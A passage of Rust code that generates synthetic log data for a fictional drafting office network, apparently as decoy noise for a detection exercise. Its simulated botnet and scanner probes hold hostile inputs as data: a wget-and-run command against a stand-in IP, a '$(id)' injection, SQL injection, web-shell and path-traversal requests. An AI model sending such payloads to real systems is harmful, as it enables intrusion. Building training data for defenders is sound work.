                for _ in 0..r.count(1.5 * act) {
                    let t = nz(nzday, r.range(9 * 3600, 17 * 3600));
                    if !in_window(t) {
                        continue;
                    }
                    let who = r.pick(&admins).clone();
                    ssh_session(s, r, host, &who, "10.20.0.50", t, NONE);
                }
            }
        }
        // Gateway portal: staff connecting from home, and health checks.
        for _ in 0..r.count(10.0 * act) {
            let t = nz(nzday, r.range(7 * 3600, 22 * 3600));
            if !in_window(t) {
                continue;
            }
            let u = r.pick(&ENV.users[..26]).clone();
            let ip = residential[(crate::rng::fnv1a(&u.sam) % residential.len() as u64) as usize]
                .clone();
            let mut tt = t;
            for (req, st, b) in [
                ("GET /portal/ HTTP/1.1", 200, 5120),
                ("GET /portal/static/app.js HTTP/1.1", 200, 48213),
                ("GET /portal/static/skin-light.css HTTP/1.1", 200, 9110),
                ("POST /portal/api/login HTTP/1.1", 200, 812),
                ("GET /portal/api/session HTTP/1.1", 200, 1320),
                ("GET /portal/tunnel?connect HTTP/1.1", 101, 0),
            ] {
                tomcat(
                    s,
                    "PDO-RAG01",
                    tt,
                    &ip,
                    if st == 101 || req.contains("session") {
                        &u.sam
                    } else {
                        ""
                    },
                    req,
                    st,
                    b,
                    "https://rag.pdo.example/portal/",
                    UA_EDGE,
                    NONE,
                );
                tt += ms(r.range(100, 3000));
            }
            zeek::conn(
                s,
                t,
                &Conn {
                    orig: &ip,
                    orig_p: r.range(49152, 65000) as u16,
                    resp: "172.16.10.30",
                    resp_p: 443,
                    proto: "tcp",
                    service: "ssl",
                    duration: r.range(600, 14_400) as f64,
                    orig_bytes: r.range(2_000_000, 40_000_000) as u64,
                    resp_bytes: r.range(20_000_000, 400_000_000) as u64,
                    state: "SF",
                },
                NONE,
            );
        }
        for i in 0..r.count(48.0 * act) {
            let t = m + Duration::minutes(30 * i as i64) + ms(r.range(0, 2000));
            tomcat(
                s,
                "PDO-RAG01",
                t,
                "10.20.0.1",
                "",
                "GET /portal/health HTTP/1.1",
                200,
                2,
                "",
                "fw-healthcheck/1.0",
                NONE,
            );
        }
    }
}

/// An SSH session with public-key authentication and a sudo.
pub(crate) fn ssh_session(
    s: &mut Sink,
    r: &mut Rng,
    host: &str,
    who: &str,
    from: &str,
    t: DateTime<Utc>,
    tag: Tag,
) {
    let pid = r.range(2000, 60000) as u32;
    let port = r.range(40000, 65000);
    let uid = 1000 + crate::rng::fnv1a(who) % 20;
    syslog::line(
        s,
        host,
        "auth.log",
        t,
        "sshd",
        pid,
        &format!(
            "Accepted publickey for {who} from {from} port {port} ssh2: ED25519 SHA256:{}",
            r.alnum(43)
        ),
        tag,
    );
    syslog::line(
        s,
        host,
        "auth.log",
        t + ms(20),
        "sshd",
        pid,
        &format!("pam_unix(sshd:session): session opened for user {who}(uid={uid}) by (uid=0)"),
        tag,
    );
    syslog::line(
        s,
        host,
        "auth.log",
        t + ms(40),
        "systemd-logind",
        812,
        &format!("New session {} of user {who}.", r.range(10, 900)),
        tag,
    );
    let cmd = [
        "/usr/bin/systemctl status veeamtransport",
        "/usr/bin/df -h",
        "/usr/bin/journalctl -u tomcat --since today",
        "/usr/bin/apt list --upgradable",
    ][r.below(4) as usize];
    let ts = t + secs(r.range(20, 300));
    syslog::line(
        s,
        host,
        "auth.log",
        ts,
        "sudo",
        0,
        &format!("  {who} : TTY=pts/0 ; PWD=/home/{who} ; USER=root ; COMMAND={cmd}"),
        tag,
    );
    syslog::line(
        s,
        host,
        "auth.log",
        ts + ms(5),
        "sudo",
        0,
        &format!("pam_unix(sudo:session): session opened for user root(uid=0) by {who}(uid={uid})"),
        tag,
    );
    syslog::line(
        s,
        host,
        "auth.log",
        ts + ms(900),
        "sudo",
        0,
        "pam_unix(sudo:session): session closed for user root",
        tag,
    );
    let te = ts + secs(r.range(60, 1200));
    syslog::line(
        s,
        host,
        "auth.log",
        te,
        "sshd",
        pid,
        &format!("Received disconnect from {from} port {port}:11: disconnected by user"),
        tag,
    );
    syslog::line(
        s,
        host,
        "auth.log",
        te + ms(10),
        "sshd",
        pid,
        &format!("pam_unix(sshd:session): session closed for user {who}"),
        tag,
    );
    let ip = ENV.ip_of(host).unwrap_or("10.20.0.60").to_string();
    zeek::conn(
        s,
        t - ms(300),
        &Conn {
            orig: from,
            orig_p: port as u16,
            resp: &ip,
            resp_p: 22,
            proto: "tcp",
            service: "ssh",
            duration: (te - t).num_seconds() as f64,
            orig_bytes: r.range(3000, 40000) as u64,
            resp_bytes: r.range(5000, 90000) as u64,
            state: "SF",
        },
        tag,
    );
}

/// The public side of the Drafts Portal: residents reading bills, and internet noise.
fn public_web(s: &mut Sink, r: &mut Rng, scale: f64, d: &Decoys) {
    let act = scale.max(0.0);
    let residential = ENV.pool(&ENV.residential);
    let botnet = ENV.pool(&ENV.botnet);
    for day in utc_days() {
        let m = midnight(day);
        // Residents (NZ daytime and evening mostly, some at any hour).
        for _ in 0..r.count(30.0 * act) {
            let hour = if r.chance(0.85) {
                [19, 20, 21, 22, 23, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9][r.below(15) as usize]
            } else {
                r.range(0, 24)
            };
            let t = m + Duration::hours(hour) + ms(r.range(0, 3_600_000));
            let ip = r.pick(&residential).clone();
            let ua = *r.pick(&[UA_EDGE, UA_IPHONE, UA_MAC, UA_FIREFOX]);
            let n = 2 + r.below(6);
            let mut tt = t;
            let mut total = 0;
            for _ in 0..n {
                let (stem, query, status, sc) = drafts_page(r, false);
                total += sc;
                iis(
                    s,
                    "PDO-WEB01",
                    "172.16.10.21",
                    tt,
                    &Req {
                        method: "GET",
                        stem: &stem,
                        query: &query,
                        user: "",
                        client: &ip,
                        ua,
                        referer: "https://drafts.pdo.example/drafts/",
                        status,
                        sc_bytes: sc,
                        cs_bytes: r.range(400, 900) as u64,
                        taken: r.range(8, 300) as u64,
                    },
                    NONE,
                );
                tt += ms(r.range(2000, 90_000));
            }
            zeek::conn(
                s,
                t,
                &Conn {
                    orig: &ip,
                    orig_p: r.range(49152, 65000) as u16,
                    resp: "172.16.10.21",
                    resp_p: 443,
                    proto: "tcp",
                    service: "ssl",
                    duration: (tt - t).num_milliseconds() as f64 / 1000.0,
                    orig_bytes: r.range(3_000, 20_000) as u64,
                    resp_bytes: total + 6000,
                    state: "SF",
                },
                NONE,
            );
        }
        // B2: botnet probes, always (not scaled below a floor: the decoy must exist).
        for _ in 0..r.count((25.0 * act).max(3.0)) {
            let t = m + ms(r.range(0, 86_400_000));
            let ip = r.pick(&botnet).clone();
            let (stem, query, ua) = *r.pick(&[
                ("/shell", "cd+/tmp;wget+http://192.0.2.201/x.sh;sh+x.sh", "Hello, world"),
                ("/.env", "", "Mozilla/5.0 (compatible; zgrab/0.x)"),
                ("/wp-login.php", "", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"),
                ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "python-requests/2.28.1"),
                ("/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id)", "Go-http-client/1.1"),
                ("/.git/config", "", "Mozilla/5.0 (compatible; CensysInspect/1.1)"),
                ("/owa/auth/x.js", "", "Mozilla/5.0 zgrab/0.x"),
            ]);
            let (host, hip) = match r.below(3) {
                0 => ("PDO-EXCH01", "10.20.0.40"),
                _ => ("PDO-WEB01", "172.16.10.21"),
            };
            iis(
                s,
                host,
                hip,
                t,
                &Req {
                    method: "GET",
                    stem,
                    query,
                    user: "",
                    client: &ip,
                    ua,
                    referer: "",
                    status: 404,
                    sc_bytes: 1245,
                    cs_bytes: r.range(150, 400) as u64,
                    taken: r.range(1, 20) as u64,
                },
                d.b[2],
            );
            if r.chance(0.3) {
                let req = format!(
                    "GET {stem}{}{query} HTTP/1.1",
                    if query.is_empty() { "" } else { "?" }
                );
                tomcat(
                    s,
                    "PDO-RAG01",
                    t + secs(r.range(1, 600)),
                    &ip,
                    "",
                    &req,
                    404,
                    0,
                    "",
                    ua,
                    d.b[2],
                );
            }
            zeek::conn(
                s,
                t - ms(200),
                &Conn {
                    orig: &ip,
                    orig_p: r.range(30000, 65000) as u16,
                    resp: hip,
                    resp_p: 443,
                    proto: "tcp",
                    service: "ssl",
                    duration: 0.4,
                    orig_bytes: 480,
                    resp_bytes: 1600,
                    state: "SF",
                },
                d.b[2],
            );
        }
    }
}

/// Base64 of the UTF-16LE encoding, as `powershell -EncodedCommand` takes it.
pub(crate) fn b64_utf16(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
    base64(&bytes)
}

/// Standard base64 with padding.
pub(crate) fn base64(b: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(b.len().div_ceil(3) * 4);
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        out.push(A[(n >> 18) as usize & 63] as char);
        out.push(A[(n >> 12) as usize & 63] as char);
        out.push(if c.len() > 1 {
            A[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if c.len() > 2 {
            A[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// The decoys B1, B3–B8, B10–B12 (B2 and B9 are part of the web and staff activity).
fn decoys(s: &mut Sink, r: &mut Rng, scale: f64, d: &Decoys) {
    let act = scale.max(0.0);
    // B1: authorised scanner, Tuesdays 13:00 UTC.
    for day in utc_days() {
        if day.format("%a").to_string() != "Tue" {
            continue;
        }
        let t0 = midnight(day) + Duration::hours(13);
        let tag = d.b[1];
        let probes = [
            ("/drafts/Default.aspx", "cmd=whoami"),
            ("/drafts/api/help", "q=net+user"),
            ("/drafts/upload.aspx", "cmd=net+user"),
            ("/cmd.aspx", "cmd=whoami"),
            ("/drafts/Attachments/Upload.ashx", "file=../../web.config"),
            ("/aspnet_client/system_web/shell.aspx", "c=whoami"),
            ("/drafts/Bills/View.aspx", "id=1'+OR+'1'='1"),
            ("/drafts/Images/thumbs/test.aspx", "cmd=ipconfig"),
        ];
        let ua = "Mozilla/5.0 (compatible; Nessus; +https://www.tenable.com)";
        let mut t = t0;
        for round in 0..3 {
            for (stem, q) in probes {
                let status = if stem.contains("Bills") { 400 } else { 404 };
                iis(
                    s,
                    "PDO-WEB01",
                    "172.16.10.21",
                    t,
                    &Req {
                        method: "GET",
                        stem,
                        query: q,
                        user: "",
                        client: "10.20.5.50",
                        ua,
                        referer: "",
                        status,
                        sc_bytes: 1245,
                        cs_bytes: 320,
                        taken: 3,
                    },
                    tag,
                );
                t += ms(r.range(150, 900) + round);
            }
        }
        for (stem, q, status) in [
            (
                "/autodiscover/autodiscover.json",
                "@scan.pdo.example/owa/?&Email=autodiscover/autodiscover.json%3F@scan.pdo.example",
                400,
            ),
            (
                "/autodiscover/autodiscover.json",
                "@scan.pdo.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@scan.pdo.example",
                400,
            ),
            ("/owa/auth/x.js", "", 404),
            ("/ecp/default.flt", "", 404),
            ("/owa/", "cmd=whoami", 400),
        ] {
            iis(
                s,
                "PDO-EXCH01",
                "10.20.0.40",
                t,
                &Req {
                    method: "GET",
                    stem,
                    query: q,
                    user: "",
                    client: "10.20.5.50",
                    ua,
                    referer: "",
                    status,
                    sc_bytes: 1245,
                    cs_bytes: 402,
                    taken: 12,
                },
                tag,
            );
            t += ms(r.range(150, 900));
        }
        wl::tgt(
            s,
            "PDO-DC01",
            t0 + secs(300),
            "svc_vulnscan",
            "PDO.EXAMPLE",
            "10.20.5.50",
            "0x12",
            tag,
        );
        let mut spns: Vec<String> = ENV.service_accounts.clone();
        for h in ENV
            .hosts
            .iter()
            .filter(|h| h.domain == "PDO" && h.windows())
        {
            spns.push(format!("{}$", h.name));
        }
        spns.extend(
            [
                "svc_rptsrv",
                "svc_wsus",
                "svc_print",
                "svc_scom",
                "svc_adfs",
                "svc_mim",
                "svc_ca",
                "svc_nps",
                "svc_dfsr",
                "svc_iisadmin",
                "svc_ssrs",
            ]
            .map(String::from),
        );
        let mut tt = t0 + secs(301);
        for spn in spns.iter().take(30) {
            wl::tgs(
                s,
                "PDO-DC01",
                tt,
                "svc_vulnscan@PDO.EXAMPLE",
                spn,
                "10.20.5.50",
                "0x12",
                "0x40810000",
                tag,
            );
            tt += ms(r.range(40, 200));
        }
        for i in 0..40 {
            let host = ENV
                .hosts
                .iter()
                .filter(|h| h.domain == "PDO")
                .nth(i % 13)
                .map_or("10.20.0.10", |h| h.ip.as_str());
            let port = [22, 80, 135, 139, 443, 445, 1433, 3389][i % 8];
            zeek::conn(
                s,
                t0 + secs(i as i64 * 3),
                &Conn {
                    orig: "10.20.5.50",
                    orig_p: r.range(40000, 65000) as u16,
                    resp: host,
                    resp_p: port,
                    proto: "tcp",
                    service: "",
                    duration: 0.002,
                    orig_bytes: 0,
                    resp_bytes: 0,
                    state: if i % 3 == 0 { "REJ" } else { "S0" },
                },
                tag,
            );
        }
    }

    // B3: Web Deploy writes Reports/Summary.aspx (CHG-4411).
    {
        let tag = d.b[3];
        let t = utc("2025-03-05 22:41:30");
        let msd = "C:\\Program Files\\IIS\\Microsoft Web Deploy V3\\msdeploy.exe";
        wl::process(
            s,
            r,
            "PDO-WEB01",
            t - secs(4),
            &Proc::new(
                msd,
                "\"C:\\Program Files\\IIS\\Microsoft Web Deploy V3\\msdeploy.exe\" -verb:sync -source:package=\"D:\\Deploy\\DraftsPortal-CHG-4411.zip\" -dest:auto -setParam:\"IIS Web Application Name\"=\"Default Web Site/drafts\"",
                "C:\\Program Files\\IIS\\Microsoft Web Deploy V3\\MsDepSvc.exe",
                "\"C:\\Program Files\\IIS\\Microsoft Web Deploy V3\\MsDepSvc.exe\"",
                "NT AUTHORITY\\SYSTEM",
            ),
            tag,
        );
        for (i, f) in [
            "C:\\inetpub\\wwwroot\\drafts\\Reports\\Summary.aspx",
            "C:\\inetpub\\wwwroot\\drafts\\Reports\\Summary.aspx.cs",
            "C:\\inetpub\\wwwroot\\drafts\\bin\\Pdo.Drafting.Reports.dll",
        ]
        .iter()
        .enumerate()
        {
            wl::file_create(
                s,
                r,
                "PDO-WEB01",
                t + ms(i as i64 * 140),
                msd,
                f,
                "NT AUTHORITY\\SYSTEM",
                tag,
            );
        }
        s.raw(
            "hosts/PDO-WEB01/wwwroot/drafts/Reports/Summary.aspx".into(),
            "PDO-WEB01",
            t,
            SUMMARY_ASPX.as_bytes(),
            tag,
        );
        // Make sure the page is visibly used by staff even at small scales.
        for i in 0..(6 + r.count(10.0 * act)) {
            let tt = t + Duration::minutes(20 + 37 * i as i64);
            let u = r.pick(&ENV.users[..26]).clone();
            iis(
                s,
                "PDO-WEB01",
                "172.16.10.21",
                tt,
                &Req {
                    method: "GET",
                    stem: "/drafts/Reports/Summary.aspx",
                    query: "week=10",
                    user: &format!("PDO\\{}", u.sam),
                    client: &u.ip,
                    ua: UA_EDGE,
                    referer: "https://drafts.pdo.example/drafts/",
                    status: 200,
                    sc_bytes: r.range(20_000, 60_000) as u64,
                    cs_bytes: 640,
                    taken: r.range(40, 300) as u64,
                },
                tag,
            );
        }
    }

    // B4: procdump of w3wp in C:\Tools.
    {
        let tag = d.b[4];
        let t = utc("2025-02-26 22:15:12");
        let pd = "C:\\Tools\\procdump64.exe";
        wl::process(
            s,
            r,
            "PDO-WEB01",
            t,
            &Proc::new(
                pd,
                "C:\\Tools\\procdump64.exe -accepteula -ma -e 1 w3wp.exe C:\\dumps",
                "C:\\Windows\\System32\\cmd.exe",
                "\"C:\\Windows\\system32\\cmd.exe\"",
                "PDO\\adm.tkereama",
            )
            .integrity("High")
            .original("procdump")
            .cwd("C:\\Tools\\"),
            tag,
        );
        wl::proc_access(
            s,
            r,
            "PDO-WEB01",
            t + secs(95),
            pd,
            "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            "0x1FFFFF",
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbghelp.dll+1ef3a|C:\\Tools\\procdump64.exe+4b1f2",
            "PDO\\adm.tkereama",
            tag,
        );
        wl::file_create(
            s,
            r,
            "PDO-WEB01",
            t + secs(96),
            pd,
            "C:\\dumps\\w3wp.exe_250227_111607.dmp",
            "PDO\\adm.tkereama",
            tag,
        );
    }

    // B5: nightly backup FS01 -> BKP01 at 22:00 UTC.
    for day in utc_days() {
        let tag = d.b[5];
        let t = midnight(day) + Duration::hours(22) + secs(r.range(0, 40));
        let lid = wl::logon(
            s,
            r,
            "PDO-FS01",
            t,
            &Logon {
                user: "svc_backup",
                domain: "PDO",
                logon_type: 3,
                ip: "10.20.0.60",
                workstation: "PDO-BKP01",
                package: "Kerberos",
            },
            tag,
        );
        wl::share(
            s,
            "PDO-FS01",
            t + ms(30),
            5140,
            "svc_backup",
            "PDO",
            "10.20.0.60",
            "\\\\*\\D$",
            "D:\\",
            "",
            "0x1",
            tag,
        );
        let n = 20 + r.count(60.0 * act);
        for i in 0..n {
            let shr = ["Drafts", "Cabinet", "IT$", "Records"][i % 4];
            let f = format!(
                "Shares\\{shr}\\2025\\{}\\file-{}.docx",
                r.range(1100, 1400),
                r.range(1, 99)
            );
            wl::share(
                s,
                "PDO-FS01",
                t + secs(5 + i as i64 * 7),
                5145,
                "svc_backup",
                "PDO",
                "10.20.0.60",
                "\\\\*\\D$",
                "\\??\\D:\\",
                &f,
                "0x120089",
                tag,
            );
        }
        let te = t + Duration::minutes(r.range(95, 140));
        wl::logoff(s, "PDO-FS01", te, "svc_backup", "PDO", 3, &lid, tag);
        zeek::conn(
            s,
            t,
            &Conn {
                orig: "10.20.0.60",
                orig_p: r.range(40000, 65000) as u16,
                resp: "10.20.0.20",
                resp_p: 445,
                proto: "tcp",
                service: "smb,gssapi",
                duration: (te - t).num_seconds() as f64,
                orig_bytes: r.range(30_000_000, 60_000_000) as u64,
                resp_bytes: r.range(290_000_000_000, 320_000_000_000) as u64,
                state: "SF",
            },
            tag,
        );
        let pid = r.range(3000, 60000) as u32;
        syslog::line(
            s,
            "PDO-BKP01",
            "auth.log",
            t - secs(1),
            "CRON",
            pid,
            "pam_unix(cron:session): session opened for user svc_backup(uid=1101) by (uid=0)",
            tag,
        );
        syslog::line(
            s,
            "PDO-BKP01",
            "auth.log",
            te + secs(2),
            "CRON",
            pid,
            "pam_unix(cron:session): session closed for user svc_backup",
            tag,
        );
    }

    // B6: records team archives old bills with 7-Zip and a password (PDO-WS012, rngata).
    for (when, year) in [("2025-03-05 01:32:10", 2019), ("2025-03-06 02:05:44", 2020)] {
        let tag = d.b[6];
        let t = utc(when);
        let cmd = format!(
            "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pRecords{year}! -mhe=on \\\\PDO-FS01\\Records\\Archive\\{year}.7z \"D:\\Records\\Bills\\{year}\\*\""
        );
        wl::process(
            s,
            r,
            "PDO-WS012",
            t,
            &Proc::new(
                "C:\\Program Files\\7-Zip\\7z.exe",
                &cmd,
                "C:\\Windows\\System32\\cmd.exe",
                "\"C:\\Windows\\system32\\cmd.exe\"",
                "PDO\\rngata",
            )
            .original("7z.exe")
            .cwd("D:\\Records\\"),
            tag,
        );
        wl::share(
            s,
            "PDO-FS01",
            t + secs(3),
            5145,
            "rngata",
            "PDO",
            "10.20.10.112",
            "\\\\*\\Records",
            "\\??\\D:\\Shares\\Records",
            &format!("Archive\\{year}.7z"),
            "0x2",
            tag,
        );
    }

    // B7: helpdesk RDP from the jump host.
    for (when, ws) in [
        ("2025-02-25 21:10:05", "PDO-WS003"),
        ("2025-03-03 22:40:31", "PDO-WS021"),
        ("2025-03-10 20:55:12", "PDO-WS012"),
        ("2025-03-13 02:20:40", "PDO-WS007"),
        ("2025-03-17 23:05:09", "PDO-WS003"),
    ] {
        let tag = d.b[7];
        let t = utc(when);
        let lid = wl::logon(
            s,
            r,
            "PDO-JMP01",
            t - secs(40),
            &Logon {
                user: "hd.amiller",
                domain: "PDO",
                logon_type: 10,
                ip: "10.20.10.103",
                workstation: "PDO-WS003",
                package: "Kerberos",
            },
            tag,
        );
        wl::rdp_auth(
            s,
            "PDO-JMP01",
            t - secs(42),
            "hd.amiller",
            "PDO",
            "10.20.10.103",
            tag,
        );
        wl::rdp_auth(s, ws, t - ms(400), "hd.amiller", "PDO", "10.20.0.50", tag);
        let lid2 = wl::logon(
            s,
            r,
            ws,
            t,
            &Logon {
                user: "hd.amiller",
                domain: "PDO",
                logon_type: 10,
                ip: "10.20.0.50",
                workstation: "PDO-JMP01",
                package: "Kerberos",
            },
            tag,
        );
        wl::rdp_session(
            s,
            ws,
            t + ms(600),
            21,
            "PDO\\hd.amiller",
            3,
            "10.20.0.50",
            tag,
        );
        let te = t + Duration::minutes(r.range(8, 30));
        wl::logoff(s, ws, te, "hd.amiller", "PDO", 10, &lid2, tag);
        wl::logoff(
            s,
            "PDO-JMP01",
            te + secs(60),
            "hd.amiller",
            "PDO",
            10,
            &lid,
            tag,
        );
        zeek::conn(
            s,
            t - ms(900),
            &Conn {
                orig: "10.20.0.50",
                orig_p: r.range(49152, 65000) as u16,
                resp: ENV.ip_of(ws).unwrap_or("10.20.10.1"),
                resp_p: 3389,
                proto: "tcp",
                service: "ssl",
                duration: (te - t).num_seconds() as f64,
                orig_bytes: r.range(200_000, 900_000) as u64,
                resp_bytes: r.range(2_000_000, 20_000_000) as u64,
                state: "SF",
            },
            tag,
        );
    }

    // B8: Teams installer adds application-scoped firewall rules.
    for (i, ws) in ["PDO-WS003", "PDO-WS007", "PDO-WS012", "PDO-WS021"]
        .iter()
        .enumerate()
    {
        let tag = d.b[8];
        let t = utc("2025-03-10 21:30:00") + Duration::minutes(7 * i as i64) + secs(r.range(0, 50));
        let u = ENV
            .users
            .iter()
            .find(|u| u.ws == *ws)
            .map_or("amiller", |u| u.sam.as_str());
        let app = format!("C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe");
        let upd = format!("C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\Update.exe");
        wl::process(
            s,
            r,
            ws,
            t,
            &Proc::new(
                &upd,
                &format!("\"{upd}\" --install --checkInstall --source=default"),
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\Explorer.EXE",
                &format!("PDO\\{u}"),
            ),
            tag,
        );
        for (proto_name, k) in [("TCP", 0), ("UDP", 1)] {
            wl::fw_rule(
                s,
                r,
                ws,
                t + secs(20 + k),
                &format!("Teams.exe ({proto_name})"),
                &app,
                "*",
                "C:\\Windows\\System32\\svchost.exe",
                "S-1-5-18",
                tag,
            );
        }
    }

    // B10: legacy Java reporting app, RC4 TGS for one SPN every 15 minutes.
    {
        let tag = d.b[10];
        let (a, b) = crate::clock::window();
        let mut t = a + secs(37);
        while t < b {
            wl::tgs(
                s,
                "PDO-DC01",
                t + ms(r.range(0, 900)),
                "svc_reporting@PDO.EXAMPLE",
                "svc_rptsrv",
                "10.20.0.31",
                "0x17",
                "0x40810000",
                tag,
            );
            t += Duration::minutes(15);
        }
    }

    // B11: SCCM/Intune agent upgrade, fleet-wide at the same time.
    {
        let tag = d.b[11];
        let t0 = utc("2025-03-12 21:05:00");
        let script = "$ErrorActionPreference = 'Stop'\n$ccm = Join-Path $env:WINDIR 'ccmsetup\\ccmsetup.exe'\nStart-Process -FilePath $ccm -ArgumentList '/mp:pdo-sccm01.pdo.example SMSSITECODE=PDO /forceinstall' -Wait\nGet-Service CcmExec | Select-Object Status, StartType | ConvertTo-Json -Compress";
        let enc = b64_utf16(script);
        let ime =
            "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe";
        let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        let cmd = format!(
            "\"{ps}\" -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {enc}"
        );
        for (i, h) in ENV
            .hosts
            .iter()
            .filter(|h| h.domain == "PDO" && h.windows())
            .enumerate()
        {
            let t = t0 + secs(i as i64 * 2) + ms(r.range(0, 1500));
            wl::process(
                s,
                r,
                &h.name,
                t,
                &Proc::new(
                    ps,
                    &cmd,
                    ime,
                    &format!("\"{ime}\" -powershell -remediationScript"),
                    "NT AUTHORITY\\SYSTEM",
                ),
                tag,
            );
            wl::script_block(s, r, &h.name, t + ms(800), script, "", "S-1-5-18", tag);
            wl::service_install(
                s,
                &h.name,
                t + secs(40),
                "SMS Agent Host",
                "C:\\Windows\\CCM\\CcmExec.exe",
                "auto start",
                "LocalSystem",
                tag,
            );
            wl::process(
                s,
                r,
                &h.name,
                t + secs(41),
                &Proc::new(
                    "C:\\Windows\\CCM\\CcmExec.exe",
                    "C:\\Windows\\CCM\\CcmExec.exe",
                    "C:\\Windows\\System32\\services.exe",
                    "C:\\Windows\\system32\\services.exe",
                    "NT AUTHORITY\\SYSTEM",
                ),
                tag,
            );
        }
    }

    // B12: admin recon from the jump host during a change (CHG-4398).
    {
        let tag = d.b[12];
        let t = utc("2025-02-27 21:31:04");
        let lid = wl::logon(
            s,
            r,
            "PDO-JMP01",
            t - secs(120),
            &Logon {
                user: "adm.tkereama",
                domain: "PDO",
                logon_type: 10,
                ip: "10.20.10.107",
                workstation: "PDO-WS007",
                package: "Kerberos",
            },
            tag,
        );
        wl::special_privs(
            s,
            "PDO-JMP01",
            t - secs(120),
            "adm.tkereama",
            "PDO",
            &lid,
            tag,
        );
        wl::rdp_auth(
            s,
            "PDO-JMP01",
            t - secs(121),
            "adm.tkereama",
            "PDO",
            "10.20.10.107",
            tag,
        );
        let cmdp = "\"C:\\Windows\\system32\\cmd.exe\"";
        wl::process(
            s,
            r,
            "PDO-JMP01",
            t - secs(30),
            &Proc::new(
                "C:\\Windows\\System32\\cmd.exe",
                cmdp,
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\Explorer.EXE",
                "PDO\\adm.tkereama",
            )
            .integrity("High"),
            tag,
        );
        for (i, (img, c)) in [
            (
                "C:\\Windows\\System32\\nltest.exe",
                "nltest /dclist:pdo.example",
            ),
            (
                "C:\\Windows\\System32\\net.exe",
                "net group \"Domain Admins\" /domain",
            ),
            (
                "C:\\Windows\\System32\\nltest.exe",
                "nltest /dsgetdc:pdo.example",
            ),
            (
                "C:\\Windows\\System32\\net.exe",
                "net user adm.tkereama /domain",
            ),
        ]
        .iter()
        .enumerate()
        {
            let tt = t + secs(i as i64 * 25) + ms(r.range(0, 900));
            wl::process(
                s,
                r,
                "PDO-JMP01",
                tt,
                &Proc::new(
                    img,
                    c,
                    "C:\\Windows\\System32\\cmd.exe",
                    cmdp,
                    "PDO\\adm.tkereama",
                )
                .integrity("High")
                .cwd("C:\\Users\\adm.tkereama\\"),
                tag,
            );
        }
        wl::logoff(
            s,
            "PDO-JMP01",
            t + Duration::minutes(25),
            "adm.tkereama",
            "PDO",
            10,
            &lid,
            tag,
        );
    }
    let _ = jitter;
}

/// The benign page Web Deploy writes (B3).
const SUMMARY_ASPX: &str = r#"<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Summary.aspx.cs" Inherits="Pdo.Drafting.Reports.Summary" MasterPageFile="~/Site.Master" %>
<asp:Content ID="Main" ContentPlaceHolderID="MainContent" runat="server">
    <h2>Weekly drafting summary</h2>
    <asp:GridView ID="BillsGrid" runat="server" AutoGenerateColumns="false" CssClass="table">
        <Columns>
            <asp:BoundField DataField="BillNumber" HeaderText="Bill" />
            <asp:BoundField DataField="Title" HeaderText="Title" />
            <asp:BoundField DataField="Stage" HeaderText="Stage" />
            <asp:BoundField DataField="Drafter" HeaderText="Drafter" />
            <asp:BoundField DataField="LastChanged" HeaderText="Last changed" DataFormatString="{0:d MMM yyyy}" />
        </Columns>
    </asp:GridView>
    <p class="note">Generated for the Parliamentary Drafting Office. Change CHG-4411.</p>
</asp:Content>
"#;
